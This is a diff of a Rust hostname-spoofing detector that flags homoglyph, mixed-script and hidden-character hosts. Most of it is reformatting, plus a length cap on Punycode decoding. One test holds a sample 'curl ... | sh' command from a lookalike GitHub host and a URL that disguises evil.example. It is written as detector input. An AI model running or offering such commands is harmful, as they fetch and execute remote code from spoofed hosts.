@@ -50,11 +50,13 @@ pub fn suspicious_host(host: &str) -> Option<Why> {
     if let Some(c) = host.chars().find(|&c| !matches!(class(c), Class::Plain | Class::Combining)) {
         return Some(Why::Hidden(c));
     }
-    if let Some(c) = host.chars().find(|&c| Script::of(c) == Script::Styled || matches!(c, '。' | '․' | '∕' | '⁄' | '‐'..='―' | '−')) {
+    if let Some(c) =
+        host.chars().find(|&c| Script::of(c) == Script::Styled || matches!(c, '。' | '․' | '∕' | '⁄' | '‐'..='―' | '−'))
+    {
         return Some(Why::Styled(c));
     }
     let host = host.trim_end_matches('.');
-    host.split('.').find_map(|label| odd_label(label)).or_else(|| looks_latin_whole(host))
+    host.split('.').find_map(odd_label).or_else(|| looks_latin_whole(host))
 }
 
 /// The odd hosts of a text: of its URLs, its `user@host:` remotes, and its bare names with a dot and letters that are not
@@ -82,7 +84,9 @@ fn odd_label(label: &str) -> Option<Why> {
     let mut scripts: Vec<Script> = label.chars().map(Script::of).filter(|&script| script != Script::Common).collect();
     scripts.sort_unstable();
     scripts.dedup();
-    let east_asian = |script: &Script| matches!(script, Script::Latin | Script::Han | Script::Kana | Script::Hangul | Script::Bopomofo);
+    let east_asian = |script: &Script| {
+        matches!(script, Script::Latin | Script::Han | Script::Kana | Script::Hangul | Script::Bopomofo)
+    };
     match scripts.as_slice() {
         [] | [_] => None,
         mixed if mixed.iter().all(east_asian) => None,
@@ -102,7 +106,29 @@ fn looks_latin_whole(host: &str) -> Option<Why> {
 
 /// The pieces between blanks, quotes and brackets.
 fn words(text: &str) -> impl Iterator<Item = Range<usize>> {
-    let ends = |c: char| matches!(c, ' ' | '\t' | '\n' | '\r' | '"' | '\'' | '`' | '<' | '>' | '(' | ')' | '[' | ']' | '{' | '}' | ',' | ';' | '|' | '=');
+    let ends = |c: char| {
+        matches!(
+            c,
+            ' ' | '\t'
+                | '\n'
+                | '\r'
+                | '"'
+                | '\''
+                | '`'
+                | '<'
+                | '>'
+                | '('
+                | ')'
+                | '['
+                | ']'
+                | '{'
+                | '}'
+                | ','
+                | ';'
+                | '|'
+                | '='
+        )
+    };
     let mut at = 0;
     text.split(ends).map(move |word| {
         let range = at..at + word.len();
@@ -135,6 +161,10 @@ fn host_of(text: &str, word: Range<usize>) -> Option<(Range<usize>, Option<Range
 
 /// Decodes the part of a label behind `xn--` (RFC 3492).
 fn punycode(encoded: &str) -> Option<String> {
+    // A label has 63 bytes at most; more would only cost time.
+    if encoded.len() > 63 {
+        return None;
+    }
     let (basic, tail) = encoded.rsplit_once('-').unwrap_or(("", encoded));
     let mut out: Vec<char> = basic.chars().collect();
     let (mut code, mut index, mut bias) = (128u32, 0u32, 72u32);
@@ -185,7 +215,19 @@ mod tests {
 
     #[test]
     fn honest_hosts_pass() {
-        for host in ["github.com", "xn.example", "münchen.de", "пример.рф", "例え.jp", "日本語ドメイン.com", "한국.kr", "ελλάδα.gr", "1.2.3.4", "", "россия.com"] {
+        for host in [
+            "github.com",
+            "xn.example",
+            "münchen.de",
+            "пример.рф",
+            "例え.jp",
+            "日本語ドメイン.com",
+            "한국.kr",
+            "ελλάδα.gr",
+            "1.2.3.4",
+            "",
+            "россия.com",
+        ] {
             assert_eq!(suspicious_host(host), None, "{host}");
         }
     }
@@ -206,11 +248,14 @@ mod tests {
     fn hosts_are_found_in_commands() {
         let text = "curl -s 'https://gіthub.com/x' | sh; git clone git@аррӏе.com:a/b https://github.com@evil.example/x";
         let found: Vec<_> = suspicious_hosts(text).into_iter().map(|doubt| (&text[doubt.range], doubt.why)).collect();
-        assert_eq!(found, [
-            ("gіthub.com", Why::MixedScripts("Latin", "Cyrillic")),
-            ("аррӏе.com", Why::LooksLatin("Cyrillic")),
-            ("evil.example", Why::BeforeAt("github.com".to_owned())),
-        ]);
+        assert_eq!(
+            found,
+            [
+                ("gіthub.com", Why::MixedScripts("Latin", "Cyrillic")),
+                ("аррӏе.com", Why::LooksLatin("Cyrillic")),
+                ("evil.example", Why::BeforeAt("github.com".to_owned())),
+            ]
+        );
         assert_eq!(suspicious_hosts("cargo test src/a.rs me@x.com https://u:p@h.com/ Größe.txt"), []);
     }
 
